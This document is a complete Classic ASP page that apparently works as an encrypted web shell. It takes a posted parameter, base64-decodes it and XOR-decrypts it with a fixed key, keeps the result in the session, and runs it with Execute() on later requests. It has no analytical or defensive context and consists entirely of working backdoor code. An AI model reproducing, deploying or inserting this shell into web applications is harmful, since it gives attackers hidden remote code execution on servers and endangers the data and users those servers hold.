<%
Function b64(s)
  Set d = CreateObject("Msxml2.DOMDocument.3.0")
  Set n = d.CreateElement("x")
  n.dataType = "bin.base64"
  n.text = s
  b64 = n.nodeTypedValue
End Function
Function dec(data)
  key = "0f1e2d3c4b5a6978"
  Set st = CreateObject("ADODB.Stream")
  st.Type = 2 : st.CharSet = "iso-8859-1" : st.Open
  For i = 1 To LenB(data)
    st.WriteText ChrW(AscB(MidB(data, i, 1)) Xor Asc(Mid(key, (i Mod 16) + 1, 1)))
  Next
  st.Position = 0
  dec = st.ReadText()
End Function
p = Request.Form("q")
If IsEmpty(Session("pl")) Then
  Session("pl") = dec(b64(p))
Else
  Execute(Session("pl"))
End If
%>
